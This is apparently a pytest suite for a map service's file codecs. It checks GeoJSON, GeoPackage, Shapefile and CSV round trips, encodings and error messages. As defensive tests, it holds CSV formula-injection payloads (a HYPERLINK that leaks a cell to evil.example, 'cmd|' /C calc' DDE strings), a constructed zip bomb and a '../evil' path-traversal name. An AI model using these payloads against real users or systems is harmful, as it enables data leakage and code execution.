"""Round trips and error handling of the map layer file codecs."""

from __future__ import annotations

import csv
import io
import json
import math
import secrets
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pyogrio.raw
import pytest
import shapely

from services.kit.errors import InvalidArgument
from services.map import formats
from services.map.formats import FORMATS, MEDIA_TYPES, DecodedFeatures, decode, encode

VILLAGE = "星明村"
GARBAGE = bytes(range(256)) * 8


# --- test data ----------------------------------------------------------------------------


def _polygon_with_hole(x: float, y: float, size: float) -> shapely.Polygon:
    shell = [(x, y), (x + size, y), (x + size, y + size * 0.9), (x, y + size * 1.1)]
    hole = [
        (x + size * 0.3, y + size * 0.3),
        (x + size * 0.6, y + size * 0.3),
        (x + size * 0.45, y + size * 0.6),
    ]
    return shapely.Polygon(shell, [hole])


def _geometries(kind: str, count: int, origin: tuple[float, float], size: float) -> list[Any]:
    """Geometries with irregular coordinates around `origin`, in RFC 7946 ring order."""
    rng = np.random.default_rng(sum(map(ord, kind)))
    out: list[Any] = []
    for _ in range(count):
        x = origin[0] + rng.uniform(0, 50 * size)
        y = origin[1] + rng.uniform(0, 50 * size)
        if kind == "polygon":
            out.append(_polygon_with_hole(x, y, size))
        elif kind == "multipolygon":
            out.append(
                shapely.MultiPolygon(
                    [
                        _polygon_with_hole(x, y, size),
                        shapely.box(x + 2 * size, y, x + 3 * size, y + size),
                    ]
                )
            )
        elif kind == "point":
            out.append(shapely.Point(x, y))
        else:
            out.append(shapely.LineString([(x, y), (x + size, y + size / 3), (x + 2 * size, y)]))
    return [shapely.orient_polygons(g) for g in out]


def _layer(kinds: dict[str, int], origin: tuple[float, float] = (121.2, 31.3), size: float = 0.001):
    """~50 features of the given kinds with string, int, float, bool, None and Chinese values."""
    geoms: list[Any] = []
    for kind, count in kinds.items():
        geoms += _geometries(kind, count, origin, size)
    n = len(geoms)
    idx = np.arange(n)
    columns = {
        "id": np.array([f"f{i:03d}" for i in idx], dtype=object),
        "name": np.array(
            [None if i % 7 == 3 else f"{VILLAGE}第{i}网格" for i in idx], dtype=object
        ),
        "population": (idx * 37 + 5).astype(np.int64),
        "households": np.array([None if i % 5 == 0 else int(i * 3) for i in idx], dtype=object),
        "area": np.array([math.nan if i % 6 == 1 else i * 1.25 + 0.1 for i in idx]),
        "ratio": (idx + 1) / 7.0,
        "active": idx % 2 == 0,
        "note": np.array([None] * n, dtype=object),
    }
    return np.array(geoms, dtype=object), columns


MIXED = {"polygon": 15, "multipolygon": 10, "point": 15, "line": 10}


def _missing(value: Any) -> bool:
    return value is None or (isinstance(value, float) and math.isnan(value))


def _assert_columns(
    decoded: DecodedFeatures, expected: dict[str, np.ndarray], rel: float = 1e-12
) -> None:
    for name, values in expected.items():
        got = decoded.columns[name]
        assert len(got) == len(values), name
        for i, (a, e) in enumerate(zip(got.tolist(), values.tolist(), strict=True)):
            where = f"{name}[{i}]: {a!r} != {e!r}"
            if _missing(e):
                assert _missing(a), where
            elif isinstance(e, float):
                assert a == pytest.approx(e, rel=rel), where
            else:
                assert a == e, where
                assert isinstance(a, bool) == isinstance(e, bool), where


def _assert_exact(decoded: DecodedFeatures, geoms: np.ndarray) -> None:
    assert len(decoded.geometries) == len(geoms)
    assert shapely.equals_exact(decoded.geometries, geoms, tolerance=1e-9).all()


# --- round trips --------------------------------------------------------------------------


@pytest.mark.parametrize("crs", ["EPSG:4326", "EPSG:4490"])
def test_geojson_round_trip_is_always_wgs84(crs):
    geoms, columns = _layer(MIXED)
    payload, media_type = encode(geoms, columns, "geojson", crs=crs)
    assert media_type == "application/geo+json"
    doc = json.loads(payload)
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc  # RFC 7946: WGS 84 implied, CGCS2000 numbers kept as they are

    decoded = decode(payload, "geojson")

    _assert_exact(decoded, geoms)
    _assert_columns(decoded, columns)
    assert decoded.crs == "EPSG:4326"
    assert decoded.feature_ids is not None
    assert decoded.feature_ids.tolist() == columns["id"].tolist()


def test_geojson_from_projected_crs_is_reprojected():
    geoms, columns = _layer({"point": 3}, origin=(350_000.0, 3_470_000.0), size=10.0)
    payload, _ = encode(geoms, columns, "geojson", crs="EPSG:32651")
    decoded = decode(payload, "geojson")
    assert decoded.crs == "EPSG:4326"
    lon, lat = shapely.get_x(decoded.geometries), shapely.get_y(decoded.geometries)
    assert ((lon > 121) & (lon < 122) & (lat > 31) & (lat < 32)).all()


@pytest.mark.parametrize(
    ("crs", "origin", "size"),
    [
        ("EPSG:4326", (121.2, 31.3), 0.001),
        ("EPSG:4490", (121.2, 31.3), 0.001),
        ("EPSG:32651", (350_000.0, 3_470_000.0), 10.0),
    ],
)
def test_gpkg_round_trip_keeps_crs(crs, origin, size):
    geoms, columns = _layer(MIXED, origin=origin, size=size)
    payload, media_type = encode(geoms, columns, "gpkg", crs=crs, layer_name="网格")
    assert media_type == "application/geopackage+sqlite3"
    assert payload.startswith(b"SQLite format 3")

    decoded = decode(payload, "gpkg")

    _assert_exact(decoded, geoms)
    _assert_columns(decoded, columns)
    assert decoded.crs == crs
    assert decoded.feature_ids is not None
    assert decoded.feature_ids.tolist() == columns["id"].tolist()


@pytest.mark.parametrize(
    ("kinds", "crs", "origin", "size"),
    [
        ({"polygon": 30, "multipolygon": 20}, "EPSG:4326", (121.2, 31.3), 0.001),
        ({"point": 50}, "EPSG:4490", (121.2, 31.3), 0.001),
        ({"line": 50}, "EPSG:32651", (350_000.0, 3_470_000.0), 10.0),
    ],
)
def test_shapefile_round_trip(kinds, crs, origin, size):
    geoms, columns = _layer(kinds, origin=origin, size=size)
    payload, media_type = encode(geoms, columns, "shapefile", crs=crs, layer_name="村界")
    assert media_type == "application/zip"
    with zipfile.ZipFile(io.BytesIO(payload)) as archive:
        assert {".shp", ".shx", ".dbf", ".prj", ".cpg"} == {
            Path(name).suffix for name in archive.namelist()
        }
        assert all(Path(name).stem == "村界" for name in archive.namelist())

    decoded = decode(payload, "shapefile")

    # Shapefiles store rings clockwise and single-part multis as plain parts.
    assert shapely.equals(decoded.geometries, geoms).all()
    _assert_columns(decoded, columns, rel=1e-9)  # numbers are fixed-width text in a .dbf
    assert decoded.crs == crs
    assert decoded.feature_ids is not None
    assert decoded.feature_ids.tolist() == columns["id"].tolist()


def test_csv_round_trip_mixed_geometries_uses_wkt():
    geoms, columns = _layer(MIXED)
    payload, media_type = encode(geoms, columns, "csv")
    assert media_type == "text/csv"
    assert payload.startswith(b"\xef\xbb\xbf")  # BOM: Excel then reads UTF-8
    assert payload.decode("utf-8-sig").splitlines()[0].startswith("wkt,id,name,")

    decoded = decode(payload, "csv")

    _assert_exact(decoded, geoms)
    _assert_columns(decoded, columns)
    assert decoded.crs is None
    assert decoded.feature_ids is not None
    assert decoded.feature_ids.tolist() == columns["id"].tolist()


def test_csv_round_trip_points_has_lon_lat():
    geoms, columns = _layer({"point": 50})
    geoms[4] = None
    payload, _ = encode(geoms, columns, "csv")
    lines = payload.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("wkt,lon,lat,id,")
    assert lines[5].startswith(",,,f004,")  # a feature without geometry

    decoded = decode(payload, "csv")

    assert decoded.geometries[4] is None
    keep = np.arange(len(geoms)) != 4
    assert shapely.equals_exact(decoded.geometries[keep], geoms[keep], tolerance=0).all()
    _assert_columns(decoded, columns)
    assert set(decoded.columns) == set(columns)


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_escapes_formulas(value):
    # Issue 11, finding 6: these came back as is in a CSV meant for Excel.
    geoms = np.array([shapely.Point(121.16, 31.29)], dtype=object)
    columns = {
        "note": np.array([value], dtype=object),
        "level": np.array([-3], dtype=np.int64),
        "depth": np.array([-1.5]),
    }
    payload, _ = encode(geoms, columns, "csv")
    (row,) = list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"), newline="")))
    assert row["note"] == "'" + value  # shown as text, the formula visible, not run
    assert (row["level"], row["depth"]) == ("-3", "-1.5")  # our own numbers stay numbers
    assert row["lon"] == "121.16"


def test_csv_export_leaves_ordinary_text_alone():
    geoms = np.array([shapely.Point(121.16, 31.29)] * 3, dtype=object)
    columns = {"note": np.array(["星明村 a=b", "'quoted", "1-2"], dtype=object)}
    payload, _ = encode(geoms, columns, "csv")
    rows = list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"), newline="")))
    assert [r["note"] for r in rows] == ["星明村 a=b", "'quoted", "1-2"]


def test_csv_export_of_projected_layer_is_wgs84():
    geoms, columns = _layer({"point": 2}, origin=(350_000.0, 3_470_000.0), size=10.0)
    decoded = decode(encode(geoms, columns, "csv", crs="EPSG:32651")[0], "csv")
    assert 121 < shapely.get_x(decoded.geometries[0]) < 122


def test_every_format_has_a_media_type():
    assert set(MEDIA_TYPES) == set(FORMATS)


# --- decoding quirks ----------------------------------------------------------------------


def _feature_collection(*features: dict[str, Any]) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


def _feature(fid: Any = None, **properties: Any) -> dict[str, Any]:
    feature: dict[str, Any] = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [121.25, 31.35]},
        "properties": properties,
    }
    if fid is not None:
        feature["id"] = fid
    return feature


def test_geojson_string_feature_ids():
    decoded = decode(_feature_collection(_feature("a", x=1), _feature("b", x=2)), "geojson")
    assert decoded.feature_ids is not None
    assert decoded.feature_ids.tolist() == ["a", "b"]
    assert list(decoded.columns) == ["x"]  # GDAL's synthetic "id" field is not a property


def test_geojson_integer_feature_ids_are_not_row_numbers():
    decoded = decode(_feature_collection(_feature(7), _feature(9)), "geojson")
    assert decoded.feature_ids is not None
    assert decoded.feature_ids.tolist() == ["7", "9"]


def test_geojson_feature_id_wins_over_id_property():
    decoded = decode(_feature_collection(_feature("a", id="p1"), _feature("b", id="p2")), "geojson")
    assert decoded.feature_ids is not None
    assert decoded.feature_ids.tolist() == ["a", "b"]
    assert decoded.columns["id"].tolist() == ["p1", "p2"]


def test_geojson_without_ids():
    decoded = decode(_feature_collection(_feature(x=1), _feature(x=2)), "geojson")
    assert decoded.feature_ids is None
    assert decoded.columns["x"].tolist() == [1, 2]


def test_geojson_nulls_keep_int_and_bool_types():
    payload = _feature_collection(_feature(n=1, ok=True), _feature(n=None, ok=None))
    decoded = decode(payload, "geojson")
    assert decoded.columns["n"].tolist() == [1, None]
    assert decoded.columns["ok"].tolist() == [True, None]


def test_gpkg_layer_choice(tmp_path):
    path = tmp_path / "two.gpkg"
    for name, x in (("a", 1.0), ("b", 2.0)):
        pyogrio.raw.write(
            path,
            np.array([shapely.to_wkb(shapely.Point(x, 0))], dtype=object),
            [np.array([name], dtype=object)],
            ["label"],
            layer=name,
            driver="GPKG",
            crs="EPSG:4326",
            geometry_type="Point",
        )
    data = path.read_bytes()
    assert decode(data, "gpkg").columns["label"].tolist() == ["a"]
    assert decode(data, "gpkg", layer="b").columns["label"].tolist() == ["b"]
    with pytest.raises(InvalidArgument) as caught:
        decode(data, "gpkg", layer="c")
    assert caught.value.violations[0].field == "layer"


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _unzip(payload: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(payload)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _deflated(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _shapefile_parts() -> dict[str, bytes]:
    geoms, columns = _layer({"point": 3})
    return _unzip(encode(geoms, columns, "shapefile", layer_name="pts")[0])


def test_a_zip_bomb_is_refused_by_its_ratio_without_unpacking_it_into_memory():
    # Issue 11, finding 9: a 102 KB upload unpacked to 100 MB, each member read whole.
    parts = _shapefile_parts()
    parts["pts.dbf"] = parts["pts.dbf"] + bytes(40 * 1024**2)  # 40 MiB of zeros
    bomb = _deflated(parts)
    assert len(bomb) < 100 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(InvalidArgument) as caught:
            decode(bomb, "shapefile")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    (violation,) = caught.value.violations
    assert violation.field == "file"
    assert "times its size" in violation.description
    assert peak < 8 * 1024**2, f"{peak} bytes held while refusing a 40 MiB member"


def test_the_unzipped_total_is_counted_as_it_streams(monkeypatch):
    parts = _shapefile_parts()
    parts["pts.dbf"] = parts["pts.dbf"] + secrets.token_bytes(3 * 1024**2)  # incompressible
    monkeypatch.setattr(formats, "MAX_UNZIPPED_BYTES", 2 * 1024**2)
    with pytest.raises(InvalidArgument) as caught:
        decode(_deflated(parts), "shapefile")
    assert "unpacks to more than" in caught.value.violations[0].description


def test_an_ordinary_deflated_shapefile_still_imports():
    decoded = decode(_deflated(_shapefile_parts()), "shapefile")
    assert len(decoded.geometries) == 3


def test_shapefile_in_a_folder_with_macos_junk():
    geoms, columns = _layer({"point": 3})
    parts = _unzip(encode(geoms, columns, "shapefile", layer_name="pts")[0])
    files = {f"导出/{name}": content for name, content in parts.items()}
    files["__MACOSX/导出/._pts.shp"] = b"\x00\x05\x16\x07junk"
    decoded = decode(_zip(files), "shapefile", layer="pts")
    assert shapely.equals(decoded.geometries, geoms).all()


def test_shapefile_without_cpg_in_gbk(tmp_path):
    """Old Chinese GIS exports: GBK .dbf, no .cpg, no code page byte."""
    pyogrio.raw.write(
        tmp_path / "old.shp",
        np.array([shapely.to_wkb(shapely.Point(121.2, 31.3))], dtype=object),
        [np.array([VILLAGE], dtype=object)],
        ["name"],
        driver="ESRI Shapefile",
        encoding="GBK",
        crs="EPSG:4326",
        geometry_type="Point",
    )
    files = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.suffix != ".cpg"}
    assert files["old.dbf"][29] == 0
    assert decode(_zip(files), "shapefile").columns["name"].tolist() == [VILLAGE]


def test_shapefile_field_names_are_cut_to_ten_bytes():
    geoms, _ = _layer({"point": 2})
    columns = {
        "村民小组名称": np.array(["一组", "二组"], dtype=object),
        "population_total": np.array([1, 2]),
        "population_tax": np.array([3, 4]),
    }
    decoded = decode(encode(geoms, columns, "shapefile")[0], "shapefile")
    assert decoded.columns["村民小"].tolist() == ["一组", "二组"]  # 9 of 10 bytes
    assert decoded.columns["population"].tolist() == [1, 2]
    assert decoded.columns["populati_1"].tolist() == [3, 4]


def test_shapefile_needs_one_geometry_family():
    geoms, columns = _layer({"point": 2, "polygon": 2})
    with pytest.raises(InvalidArgument) as caught:
        encode(geoms, columns, "shapefile")
    assert caught.value.violations[0].field == "geometries"


def test_gpkg_columns_named_like_gdal_defaults():
    geoms, _ = _layer({"point": 2})
    columns = {"fid": np.array(["x", "y"], dtype=object), "geom": np.array([1, 2])}
    decoded = decode(encode(geoms, columns, "gpkg")[0], "gpkg")
    assert decoded.columns["fid"].tolist() == ["x", "y"]
    assert decoded.columns["geom"].tolist() == [1, 2]


def test_csv_from_excel_in_gb18030_with_codes_and_case():
    text = (
        "ID,LON,Lat,村名,code,phone\r\n"
        "1,121.5,31.2,星明村,007,13800138000\r\n"
        "2,121.6,31.3,向阳村,012,\r\n"
    )
    decoded = decode(text.encode("gb18030"), "csv")
    assert shapely.equals_exact(
        decoded.geometries, shapely.points([121.5, 121.6], [31.2, 31.3]), tolerance=0
    ).all()
    assert decoded.columns["村名"].tolist() == ["星明村", "向阳村"]
    assert decoded.columns["code"].tolist() == ["007", "012"]  # zero-padded codes stay text
    assert decoded.columns["phone"].tolist() == [13800138000, None]
    assert decoded.columns["ID"].tolist() == [1, 2]
    assert decoded.feature_ids is None  # only a column named exactly "id" is the id


def test_csv_custom_coordinate_fields_and_blank_rows():
    text = "经度,纬度,name\n121.5,31.2,a\n\n,,b\n"
    decoded = decode(text.encode(), "csv", lon_field="经度", lat_field="纬度")
    assert decoded.geometries[0] == shapely.Point(121.5, 31.2)
    assert decoded.geometries[1] is None
    assert decoded.columns["name"].tolist() == ["a", "b"]


# --- errors -------------------------------------------------------------------------------


def _violation(excinfo: pytest.ExceptionInfo[InvalidArgument]) -> tuple[str, str]:
    violation = excinfo.value.violations[0]
    return violation.field, violation.description


@pytest.mark.parametrize("fmt", FORMATS)
def test_garbage_is_a_bad_file(fmt):
    with pytest.raises(InvalidArgument) as caught:
        decode(GARBAGE, fmt)
    field, description = _violation(caught)
    assert field == "file"
    assert "/tmp" not in description
    assert "vsimem" not in description


@pytest.mark.parametrize("fmt", FORMATS)
def test_empty_file(fmt):
    with pytest.raises(InvalidArgument) as caught:
        decode(b"", fmt)
    assert _violation(caught)[0] == "file"


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "shapefile"])
def test_truncated_file(fmt):
    geoms, columns = _layer({"polygon": 50})
    payload, _ = encode(geoms, columns, fmt)
    with pytest.raises(InvalidArgument) as caught:
        decode(payload[: len(payload) // 3], fmt)
    field, description = _violation(caught)
    assert field == "file"
    assert "/tmp" not in description


def test_gpkg_uploaded_as_geojson_is_refused():
    geoms, columns = _layer({"point": 2})
    with pytest.raises(InvalidArgument) as caught:
        decode(encode(geoms, columns, "gpkg")[0], "geojson")
    assert _violation(caught)[0] == "file"


def test_unknown_format():
    with pytest.raises(InvalidArgument) as caught:
        decode(b"{}", "kml")
    assert _violation(caught)[0] == "format"
    geoms, columns = _layer({"point": 1})
    with pytest.raises(InvalidArgument) as caught:
        encode(geoms, columns, "kml")
    assert _violation(caught)[0] == "format"


def test_csv_without_lat_column():
    with pytest.raises(InvalidArgument) as caught:
        decode(b"lon,name\n121.5,a\n", "csv")
    field, description = _violation(caught)
    assert field == "lat_field"
    assert "'lat'" in description


def test_csv_without_lon_column():
    with pytest.raises(InvalidArgument) as caught:
        decode(b"x,y\n1,2\n", "csv")
    assert _violation(caught)[0] == "lon_field"


def test_csv_non_numeric_coordinate_names_the_row():
    text = "lon,lat,name\n121.1,31.1,a\n121.2,31.2,b\nabc,31.3,c\n121.4,31.4,d\n"
    with pytest.raises(InvalidArgument) as caught:
        decode(text.encode(), "csv")
    field, description = _violation(caught)
    assert field == "file"
    assert "row 3" in description
    assert "'abc'" in description


def test_csv_invalid_wkt_names_the_row():
    with pytest.raises(InvalidArgument) as caught:
        decode(b"wkt,name\nPOINT (1 2),a\nPOLYGON ((1,b\n", "csv")
    field, description = _violation(caught)
    assert field == "file"
    assert "row 2" in description


def test_zip_without_shp():
    with pytest.raises(InvalidArgument) as caught:
        decode(_zip({"readme.txt": b"hello", "layer.dbf": b"x"}), "shapefile")
    field, description = _violation(caught)
    assert field == "file"
    assert ".shp" in description


def test_zip_without_shx():
    geoms, columns = _layer({"point": 2})
    parts = _unzip(encode(geoms, columns, "shapefile")[0])
    del parts["features.shx"]
    with pytest.raises(InvalidArgument) as caught:
        decode(_zip(parts), "shapefile")
    assert _violation(caught) == ("file", "the archive lacks features.shx")


@pytest.mark.parametrize("fmt", FORMATS)
def test_more_than_max_features(fmt):
    geoms, columns = _layer({"point": 50})
    payload, _ = encode(geoms, columns, fmt)
    assert len(decode(payload, fmt, max_features=50).geometries) == 50
    with pytest.raises(InvalidArgument) as caught:
        decode(payload, fmt, max_features=10)
    field, description = _violation(caught)
    assert field == "file"
    assert "50" in description


def test_encode_rejects_bad_input():
    geoms, columns = _layer({"point": 2})
    with pytest.raises(InvalidArgument) as caught:
        encode(geoms, {"x": np.array([1, 2, 3])}, "gpkg")
    assert _violation(caught)[0] == "columns.x"
    with pytest.raises(InvalidArgument) as caught:
        encode(geoms, columns, "gpkg", crs="EPSG:999999")
    assert _violation(caught)[0] == "crs"
    with pytest.raises(InvalidArgument) as caught:
        encode(geoms, columns, "shapefile", layer_name="../evil")
    assert _violation(caught)[0] == "layer_name"
    with pytest.raises(InvalidArgument) as caught:
        encode(geoms, {"lon": np.array([1.0, 2.0])}, "csv")
    assert _violation(caught)[0] == "columns.lon"
